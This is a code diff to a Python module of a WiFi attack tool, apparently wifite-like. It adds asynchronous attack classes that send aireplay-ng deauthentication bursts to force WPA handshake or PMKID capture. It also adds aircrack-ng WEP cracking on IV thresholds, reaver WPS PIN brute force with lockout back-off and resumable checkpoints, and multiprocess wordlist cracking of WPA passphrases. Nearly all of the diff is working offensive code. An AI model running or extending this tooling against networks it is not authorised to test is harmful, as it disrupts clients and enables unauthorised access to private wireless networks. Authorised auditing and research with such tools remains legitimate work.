@@ -5,19 +5,75 @@ Implements attack logic for WEP, WPA, and WPS, including attack classes and help
 
 Functions and Classes:
     wps_check_targets: Checks if targets support WPS using tshark.
-    Attack: Abstract base class for attacks.
-    WPAAttack, WEPAttack, WPSAttack: Concrete attack implementations.
+    Attack: Abstract base class for attacks, with an async lifecycle.
+    WPAAttack: Captures a handshake or PMKID from a running capture.
+    WEPAttack: Cracks a WEP key once enough unique IVs are captured.
+    WPSAttack: Brute-forces the WPS PIN with reaver, parsing its output live.
     wpa_crack: Attempts to crack WPA handshakes.
 """
 
 import os
 import re
 import abc
+import time
+import queue
+import asyncio
 import logging
-from typing import List, Any
-from subprocess import Popen, PIPE
-from wlfwifi.utils import program_exists
+import threading
+from signal import SIGCONT, SIGSTOP
+from typing import Callable, Dict, List, Any, Optional, Sequence, Union
+from subprocess import Popen, PIPE, DEVNULL, STDOUT, TimeoutExpired
+from wlfwifi.utils import program_exists, send_interrupt
 from wlfwifi.models import Target
+from wlfwifi.handshake import Handshake, Pmkid, wait_for_handshake
+from wlfwifi.wep import DEFAULT_IV_THRESHOLDS, IvTracker
+from wlfwifi.wps import (
+    WPS_KEYSPACE,
+    EVENT_PROGRESS,
+    EVENT_PSK,
+    EVENT_RATE_LIMIT,
+    EVENT_WPS_PIN,
+    ReaverParser,
+    WpsBackoff,
+    WpsCheckpoint,
+    WpsEvent,
+    WpsState,
+    WpsStats,
+)
+from wlfwifi.pmk import PmkCache
+from wlfwifi.results import (
+    METHOD_KNOWN_KEY,
+    METHOD_PMK_CACHE,
+    METHOD_STORED,
+    METHOD_WEP,
+    METHOD_WPS,
+    CrackResult,
+    ResultStore,
+)
+from wlfwifi.wpa import load_material
+from wlfwifi.verify import native_crack_wordlist, verify_keys
+from wlfwifi.crack import (
+    CHECKPOINT_SUFFIX,
+    DEFAULT_CHUNK,
+    ENGINE_AIRCRACK,
+    ENGINE_NATIVE,
+    ENGINES,
+    AircrackWorker,
+    CrackCheckpoint,
+    crack_wordlist,
+    handshake_digest,
+)
+
+# Seconds allowed per lifecycle phase; run() is only bounded by the
+# attack's own timeout unless a subclass or the scheduler sets one
+DEFAULT_PHASE_TIMEOUTS: Dict[str, Optional[float]] = {
+    "prepare": 30.0,
+    "run": None,
+    "cancel": 10.0,
+    "cleanup": 10.0,
+}
+
+ProgressListener = Callable[["Attack", Any], None]
 
 
 def wps_check_targets(
@@ -66,7 +122,66 @@ def wps_check_targets(
         logging.error(f"[wps_check_targets] Error: {e}")
 
 
+def _in_thread(fn: Callable[[], Any]) -> "asyncio.Future[Any]":
+    """
+    Runs "fn" in a new daemon thread. Unlike run_in_executor(), blocking
+    calls never queue behind each other for a pool worker, and a call
+    that never returns does not hold up the event loop's shutdown.
+    """
+    loop = asyncio.get_running_loop()
+    future = loop.create_future()
+
+    def settle(result: Any, error: Optional[BaseException]) -> None:
+        if future.done():
+            return
+        if error is not None:
+            future.set_exception(error)
+        else:
+            future.set_result(result)
+
+    def target() -> None:
+        result, error = None, None
+        try:
+            result = fn()
+        except BaseException as e:
+            error = e
+        try:
+            loop.call_soon_threadsafe(settle, result, error)
+        except RuntimeError:
+            # The loop has been closed: nobody waits for the result
+            pass
+
+    threading.Thread(
+        target=target, name=getattr(fn, "__qualname__", None), daemon=True
+    ).start()
+    return future
+
+
 class Attack(metaclass=abc.ABCMeta):
+    """
+    Base class of attacks. Subclasses implement the synchronous
+    RunAttack() and EndAttack(). The asynchronous lifecycle that
+    AttackScheduler (scheduler.py) drives is built on them: prepare(),
+    run() and cancel() (RunAttack() and EndAttack(), each in a thread of
+    its own) and cleanup(), each bounded by the timeout of its phase in
+    "timeouts".
+    Child processes started with _spawn() are tracked so the scheduler
+    can tear them down, and report() sends progress events to the
+    listener it installs with set_listener().
+    Attributes:
+            method (str): Method recorded with the keys the attack returns,
+                    None if it returns no key.
+            timeouts (dict): Seconds allowed per phase, None for no limit;
+                    a copy of DEFAULT_PHASE_TIMEOUTS per attack.
+    """
+
+    method: Optional[str] = None
+    # Subclasses have __init__() methods of their own, so per-attack state
+    # starts out unset here and is created on first use
+    _timeouts: Optional[Dict[str, Optional[float]]] = None
+    _listener: Optional[ProgressListener] = None
+    _children: Optional[List[Popen]] = None
+
     @abc.abstractmethod
     def RunAttack(self) -> Any:
         """Run the attack. Must be implemented by subclasses."""
@@ -77,3 +192,567 @@ class Attack(metaclass=abc.ABCMeta):
         """End the attack. Must be implemented by subclasses."""
         raise NotImplementedError("EndAttack() must be implemented by subclasses.")
 
+    @property
+    def timeouts(self) -> Dict[str, Optional[float]]:
+        if self._timeouts is None:
+            self._timeouts = dict(DEFAULT_PHASE_TIMEOUTS)
+        return self._timeouts
+
+    @timeouts.setter
+    def timeouts(self, value: Dict[str, Optional[float]]) -> None:
+        self._timeouts = dict(value)
+
+    async def prepare(self) -> None:
+        """Checks and setup before run(); nothing by default."""
+
+    async def run(self) -> Any:
+        """Runs RunAttack() in a thread of its own."""
+        return await _in_thread(self.RunAttack)
+
+    async def cancel(self) -> None:
+        """Makes a running run() return, through EndAttack()."""
+        await _in_thread(self.EndAttack)
+
+    async def cleanup(self) -> None:
+        """Releases what prepare() set up; nothing by default."""
+
+    def set_listener(self, listener: Optional[ProgressListener]) -> None:
+        """Sets the callable report() passes progress to, None to remove it."""
+        self._listener = listener
+
+    def report(self, detail: Any) -> None:
+        """Sends a progress event to the scheduler running the attack."""
+        if self._listener is not None:
+            self._listener(self, detail)
+
+    def _spawn(self, cmd: List[str], **kwargs: Any) -> Popen:
+        process = Popen(cmd, **kwargs)
+        if self._children is None:
+            self._children = []
+        self._children.append(process)
+        return process
+
+    def children(self) -> List[Popen]:
+        """Child processes started by the attack that are still running."""
+        return [p for p in self._children or () if p.poll() is None]
+
+
+class WPAAttack(Attack):
+    """
+    Captures a WPA handshake, or a PMKID for clientless networks, from a
+    capture file that is being written (e.g. a shared ChannelCapture).
+    Optionally starts an aireplay-ng deauthentication burst to make clients
+    reconnect, aimed at the given clients (e.g. the busiest ones reported by
+    ActivityTracker.most_active()) or broadcast to all of them. The attack
+    ends as soon as either is seen.
+    Attributes:
+            target (Target): Network under attack; receives the PMKID if found.
+            cap_path (str): Capture file to follow.
+            timeout (float): Seconds to wait before giving up.
+            interface (str): Interface for deauthentication, if any.
+            clients (List[str]): Stations to deauthenticate; broadcast if empty.
+            accept_pmkid (bool): Finish on a PMKID without waiting for a client.
+            result: The Handshake or Pmkid obtained, if any.
+    """
+
+    def __init__(
+        self,
+        target: Target,
+        cap_path: str,
+        timeout: float = 300.0,
+        interface: Optional[str] = None,
+        deauth_count: int = 5,
+        accept_pmkid: bool = True,
+        poll_interval: float = 0.01,
+        clients: Optional[List[str]] = None,
+    ) -> None:
+        self.target = target
+        self.cap_path = cap_path
+        self.timeout = timeout
+        self.interface = interface
+        self.clients = list(clients or ())
+        self.deauth_count = deauth_count
+        self.accept_pmkid = accept_pmkid
+        self.poll_interval = poll_interval
+        self.result: Optional[Union[Handshake, Pmkid]] = None
+        self._stopped = False
+        self._deauths: List[Popen] = []
+
+    def _start_deauth(self) -> None:
+        if self.interface is None or not program_exists("aireplay-ng"):
+            return
+        for client in self.clients or [None]:
+            cmd = ["aireplay-ng", "-0", str(self.deauth_count), "-a", self.target.bssid]
+            if client is not None:
+                cmd += ["-c", client]
+            cmd.append(self.interface)
+            self._deauths.append(self._spawn(cmd, stdout=DEVNULL, stderr=DEVNULL))
+
+    def RunAttack(self) -> Optional[Union[Handshake, Pmkid]]:
+        """
+        Waits for a handshake or PMKID of the target.
+        Returns:
+                Handshake or Pmkid, or None on timeout or EndAttack().
+        """
+        self._stopped = False
+        self._start_deauth()
+        self.result = wait_for_handshake(
+            self.cap_path,
+            bssid=self.target.bssid,
+            timeout=self.timeout,
+            poll_interval=self.poll_interval,
+            stop=lambda: self._stopped,
+            accept_pmkid=self.accept_pmkid,
+            targets=[self.target],
+        )
+        return self.result
+
+    def EndAttack(self) -> None:
+        """Stops waiting and terminates the deauthentication processes."""
+        self._stopped = True
+        deauths, self._deauths = self._deauths, []
+        for process in deauths:
+            send_interrupt(process)
+        # Reap them, so no zombie outlives the attack
+        for process in deauths:
+            try:
+                process.wait(timeout=5)
+            except TimeoutExpired:
+                process.kill()
+                process.wait()
+
+
+class WEPAttack(Attack):
+    """
+    Cracks a WEP key from a capture file that is being written.
+    Unique IVs of the target are counted natively as frames are appended;
+    aircrack-ng is started once the first threshold is reached, and
+    restarted on the larger IV set at every further threshold until it
+    writes the key.
+    Attributes:
+            target (Target): Network under attack.
+            cap_path (str): Capture file to follow.
+            thresholds (Sequence[int]): Unique IV counts that (re)start aircrack-ng.
+            timeout (float): Seconds to wait before giving up.
+            key_path (str): File aircrack-ng writes the key to.
+            tracker (IvTracker): Unique IV counter of the last run.
+            cracks (int): Times aircrack-ng was started.
+            result (str): The key as hex, if found.
+    """
+
+    method = METHOD_WEP
+
+    def __init__(
+        self,
+        target: Target,
+        cap_path: str,
+        thresholds: Sequence[int] = DEFAULT_IV_THRESHOLDS,
+        timeout: float = 1800.0,
+        key_path: Optional[str] = None,
+        poll_interval: float = 0.5,
+    ) -> None:
+        self.target = target
+        self.cap_path = cap_path
+        self.thresholds = thresholds
+        self.timeout = timeout
+        if key_path is None:
+            key_path = "%s-%s.key" % (
+                os.path.splitext(cap_path)[0],
+                target.bssid.replace(":", ""),
+            )
+        self.key_path = key_path
+        self.poll_interval = poll_interval
+        self.tracker: Optional[IvTracker] = None
+        self.cracks = 0
+        self.result: Optional[str] = None
+        self._stopped = False
+        self._cracker: Optional[Popen] = None
+
+    def _start_cracker(self) -> None:
+        self._stop_cracker()
+        cmd = [
+            "aircrack-ng",
+            "-q",
+            "-a",
+            "1",
+            "-b",
+            self.target.bssid,
+            "-l",
+            self.key_path,
+            self.cap_path,
+        ]
+        self._cracker = self._spawn(cmd, stdout=DEVNULL, stderr=DEVNULL)
+        self.cracks += 1
+
+    def _stop_cracker(self) -> None:
+        cracker, self._cracker = self._cracker, None
+        if cracker is not None and cracker.poll() is None:
+            cracker.kill()
+            cracker.wait()
+
+    def _read_key(self) -> Optional[str]:
+        try:
+            with open(self.key_path) as f:
+                return f.read().strip() or None
+        except OSError:
+            return None
+
+    def RunAttack(self) -> Optional[str]:
+        """
+        Follows the capture and cracks the key when enough IVs are in.
+        Returns:
+                str: The key as hex, or None on timeout or EndAttack().
+        """
+        if not program_exists("aircrack-ng"):
+            logging.error("[WEPAttack] aircrack-ng not found")
+            return None
+        self._stopped = False
+        if os.path.exists(self.key_path):
+            os.remove(self.key_path)
+        crossed: List[int] = []
+        self.tracker = IvTracker(
+            self.thresholds,
+            on_threshold=lambda bssid, count: crossed.append(count),
+            bssids=[self.target.bssid],
+        )
+        deadline = time.monotonic() + self.timeout
+        try:
+            while not self._stopped and time.monotonic() < deadline:
+                self.tracker.poll(self.cap_path)
+                if crossed:
+                    logging.info(
+                        f"[WEPAttack] {self.target.bssid}: cracking with "
+                        f"{crossed[-1]} unique IVs"
+                    )
+                    self.report(f"{crossed[-1]} unique IVs")
+                    crossed.clear()
+                    self._start_cracker()
+                cracker = self._cracker
+                if cracker is not None and cracker.poll() is not None:
+                    # Without a key written, wait for the next threshold
+                    self._cracker = None
+                    self.result = self._read_key()
+                    if self.result is not None:
+                        break
+                time.sleep(self.poll_interval)
+        finally:
+            self._stop_cracker()
+            self.tracker.close()
+        return self.result
+
+    def EndAttack(self) -> None:
+        """Stops following the capture and terminates aircrack-ng."""
+        self._stopped = True
+        self._stop_cracker()
+
+
+class WPSAttack(Attack):
+    """
+    Brute-forces the WPS PIN of an access point with reaver.
+    reaver's output is read line by line while it runs and parsed into
+    WpsEvents (see wps.py), which keep the attempts/sec and ETA in "stats"
+    current. When the AP locks WPS or keeps timing out, "backoff" decides
+    how long reaver is paused (SIGSTOP, then SIGCONT) before it goes on.
+    With a "checkpoint", the PIN halves ruled out and the lockouts are
+    saved as they happen and restored the next time the AP is attacked:
+    reaver then starts from a session file listing the untried halves
+    first, and the back-off resumes any lockout streak still running.
+    Attributes:
+            target (Target): Network under attack.
+            interface (str): Monitor-mode interface for reaver.
+            timeout (float): Seconds to run before giving up.
+            backoff (WpsBackoff): Pauses after lockouts and timeouts.
+            on_event (callable): Called with every WpsEvent, if given.
+            checkpoint (WpsCheckpoint): Saved states per BSSID, if any.
+            state (WpsState): State of the last run with a checkpoint.
+            stats (WpsStats): Counters of the last run.
+            pin (str): The WPS PIN, if found.
+            result (str): The WPA PSK, or the PIN if the AP did not reveal it.
+    """
+
+    method = METHOD_WPS
+
+    def __init__(
+        self,
+        target: Target,
+        interface: str,
+        timeout: float = 14400.0,
+        backoff: Optional[WpsBackoff] = None,
+        on_event: Optional[Callable[[WpsEvent], None]] = None,
+        reaver_args: Sequence[str] = (),
+        progress_interval: float = 60.0,
+        poll_interval: float = 0.5,
+        checkpoint: Optional[WpsCheckpoint] = None,
+    ) -> None:
+        self.target = target
+        self.interface = interface
+        self.timeout = timeout
+        self.backoff = backoff if backoff is not None else WpsBackoff()
+        self.on_event = on_event
+        self.reaver_args = list(reaver_args)
+        self.progress_interval = progress_interval
+        self.poll_interval = poll_interval
+        self.checkpoint = checkpoint
+        self.state: Optional[WpsState] = None
+        self.stats = WpsStats()
+        self.pin: Optional[str] = None
+        self.result: Optional[str] = None
+        self._stopped = False
+        self._process: Optional[Popen] = None
+
+    def _command(self) -> List[str]:
+        cmd = ["reaver", "-i", self.interface, "-b", self.target.bssid, "-vv"]
+        if self.target.channel:
+            cmd += ["-c", str(self.target.channel)]
+        return cmd + self.reaver_args
+
+    def _restore(self) -> List[str]:
+        # Loads the saved state; returns the reaver arguments resuming it
+        self.state = self.checkpoint.load(self.target.bssid)
+        recent = time.time() - self.backoff.max_delay
+        self.backoff.lockouts = self.state.lockouts_since(recent)
+        if not self.state.position:
+            return []
+        logging.info(
+            f"[WPSAttack] Resuming {self.target.bssid}: {self.state.position} "
+            f"of {WPS_KEYSPACE} PINs ruled out"
+        )
+        return ["-s", self.checkpoint.write_session(self.state)]
+
+    def _handle(self, event: WpsEvent) -> float:
+        self.stats.record(event)
+        if self.state is not None and self.state.record(event):
+            self.checkpoint.save(self.state)
+        if event.kind == EVENT_WPS_PIN:
+            self.pin = event.value
+        elif event.kind == EVENT_PSK:
+            self.result = event.value
+        elif event.kind == EVENT_RATE_LIMIT:
+            logging.warning(f"[WPSAttack] {self.target.bssid} locked WPS")
+        if self.on_event is not None:
+            self.on_event(event)
+        self.report(event)
+        return self.backoff.delay(event)
+
+    def _stop_reaver(self) -> None:
+        process, self._process = self._process, None
+        if process is None or process.poll() is not None:
+            return
+        process.send_signal(SIGCONT)
+        send_interrupt(process)
+        try:
+            process.wait(timeout=5)
+        except TimeoutExpired:
+            process.kill()
+            process.wait()
+
+    def RunAttack(self) -> Optional[str]:
+        """
+        Runs reaver until the PIN is found, it exits, or the timeout.
+        Returns:
+                str: The PSK (or PIN), or None on failure, timeout or EndAttack().
+        """
+        if not program_exists("reaver"):
+            logging.error("[WPSAttack] reaver not found")
+            return None
+        self._stopped = False
+        self.stats = WpsStats()
+        parser = ReaverParser()
+        cmd = self._command()
+        if self.checkpoint is not None:
+            cmd += self._restore()
+        started = time.monotonic()
+        process = self._spawn(
+            cmd,
+            stdin=DEVNULL,
+            stdout=PIPE,
+            stderr=STDOUT,
+            universal_newlines=True,
+            bufsize=1,
+        )
+        self._process = process
+        lines: "queue.Queue[Optional[str]]" = queue.Queue()
+        reader = threading.Thread(target=_pump, args=(process.stdout, lines))
+        reader.daemon = True
+        reader.start()
+        deadline = time.monotonic() + self.timeout
+        resume_at: Optional[float] = None
+        last_report = time.monotonic()
+        try:
+            while not self._stopped:
+                now = time.monotonic()
+                if now >= deadline:
+                    logging.info(f"[WPSAttack] {self.target.bssid}: timed out")
+                    break
+                if resume_at is not None and now >= resume_at:
+                    process.send_signal(SIGCONT)
+                    resume_at = None
+                try:
+                    line = lines.get(timeout=self.poll_interval)
+                except queue.Empty:
+                    continue
+                if line is None:
+                    break
+                event = parser.feed(line)
+                if event is None:
+                    continue
+                delay = self._handle(event)
+                if delay and resume_at is None:
+                    logging.info(
+                        f"[WPSAttack] {self.target.bssid}: backing off {delay:.0f}s"
+                    )
+                    process.send_signal(SIGSTOP)
+                    resume_at = time.monotonic() + delay
+                    self.stats.paused += delay
+                if event.kind == EVENT_PROGRESS and now - last_report >= (
+                    self.progress_interval
+                ):
+                    last_report = now
+                    logging.info(
+                        f"[WPSAttack] {self.target.bssid}: {self.stats.summary()}"
+                    )
+        finally:
+            self._stop_reaver()
+            if self.state is not None:
+                self.state.elapsed += time.monotonic() - started
+                self.checkpoint.save(self.state)
+        if self.result is None:
+            self.result = self.pin
+        if self.result is not None and self.checkpoint is not None:
+            self.checkpoint.clear(self.target.bssid)
+        logging.info(f"[WPSAttack] {self.target.bssid}: {self.stats.summary()}")
+        return self.result
+
+    def EndAttack(self) -> None:
+        """Stops reading and terminates reaver."""
+        self._stopped = True
+        self._stop_reaver()
+
+
+def _pump(stream: Any, lines: "queue.Queue[Optional[str]]") -> None:
+    # Moves a child's output lines to a queue; None marks the end
+    try:
+        for line in stream:
+            lines.put(line)
+    except (OSError, ValueError):
+        pass
+    lines.put(None)
+
+
+def wpa_crack(
+    cap_path: str,
+    wordlist: str,
+    bssid: str,
+    processes: Optional[int] = None,
+    chunk_size: int = DEFAULT_CHUNK,
+    resume: bool = True,
+    start: Optional[int] = None,
+    pmk_cache: Optional[str] = None,
+    engine: str = ENGINE_AIRCRACK,
+    keys: Optional[Sequence[str]] = None,
+    results: Optional[str] = None,
+) -> Optional[str]:
+    """
+    Cracks the WPA handshake of "bssid" in a capture with a wordlist.
+    With "results", a ResultStore database, a handshake cracked before is
+    answered from the store, and the stored key of the network is verified
+    against a new handshake before anything else; keys found are recorded
+    there with their method and time to crack.
+    With "pmk_cache", the PMKs cached for the AP's ESSID are tested first,
+    which only costs a MIC or PMKID check each. Known or default "keys"
+    are verified in-process next.
+    The wordlist (plain, gzip, or "-" for stdin) is streamed in chunks to
+    worker processes, CPU count by default. The "aircrack" engine runs one
+    single-threaded aircrack-ng per worker; the "native" engine verifies
+    candidates in the workers themselves (see verify.py) and does not need
+    aircrack-ng.
+    Progress is checkpointed in "<capture>.resume"; with "resume", a run
+    continues where the last one on the same handshake and wordlist
+    stopped, unless "start" gives the candidate number to begin at.
+    Returns:
+            str: The passphrase, or None if it is not in the wordlist.
+    """
+    if engine not in ENGINES:
+        raise ValueError(f"Unknown crack engine {engine!r}")
+    started = time.monotonic()
+    material = None
+    if pmk_cache is not None or keys or results is not None or engine == ENGINE_NATIVE:
+        try:
+            material = load_material(cap_path, bssid)
+        except (OSError, ValueError) as e:
+            logging.warning(f"[wpa_crack] Cannot read {cap_path}: {e}")
+    digest = handshake_digest(cap_path, bssid)
+    essid = ""
+    if material is not None and material.essid is not None:
+        essid = material.essid.decode("utf-8", errors="replace")
+    store = ResultStore(results) if results is not None else None
+
+    def found(key: bytes, method: str) -> str:
+        text = key.decode("utf-8", errors="replace")
+        if store is not None:
+            elapsed = time.monotonic() - started
+            store.add(CrackResult(bssid, essid, digest, text, method, elapsed))
+        return text
+
+    try:
+        if store is not None:
+            known = store.get(bssid, essid, digest)
+            if known is not None:
+                logging.info(f"[wpa_crack] {bssid} already cracked by {known.method}")
+                return known.key
+            solved = store.solved(bssid, essid)
+            if solved is not None and material is not None:
+                key = verify_keys(material, [solved.key])
+                if key is not None:
+                    return found(key, METHOD_STORED)
+        if pmk_cache is not None and material is not None:
+            with PmkCache(pmk_cache) as cache:
+                key = cache.find(material)
+            if key is not None:
+                return found(key, METHOD_PMK_CACHE)
+        if keys and material is not None:
+            key = verify_keys(material, keys)
+            if key is not None:
+                return found(key, METHOD_KNOWN_KEY)
+        if engine == ENGINE_NATIVE:
+            if material is None or material.essid is None or not material.checks:
+                logging.error(f"[wpa_crack] No ESSID or handshake for {bssid}")
+                return None
+        elif not program_exists("aircrack-ng"):
+            logging.error("[wpa_crack] aircrack-ng not found")
+            return None
+        checkpoints = CrackCheckpoint(cap_path + CHECKPOINT_SUFFIX)
+        if start is None:
+            start = checkpoints.position(digest, wordlist) if resume else 0
+            if start:
+                logging.info(f"[wpa_crack] Resuming {wordlist} at candidate {start}")
+
+        def checkpoint(position: int) -> None:
+            checkpoints.save(digest, wordlist, position)
+
+        if engine == ENGINE_NATIVE:
+            key, _ = native_crack_wordlist(
+                material,
+                wordlist,
+                processes,
+                chunk_size,
+                start=start,
+                checkpoint=checkpoint,
+            )
+        else:
+            worker = AircrackWorker(cap_path, bssid)
+            key, _ = crack_wordlist(
+                wordlist,
+                worker,
+                processes,
+                chunk_size,
+                start=start,
+                checkpoint=checkpoint,
+            )
+        if key is None:
+            return None
+        checkpoints.clear(digest, wordlist)
+        return found(key, engine)
+    finally:
+        if store is not None:
+            store.close()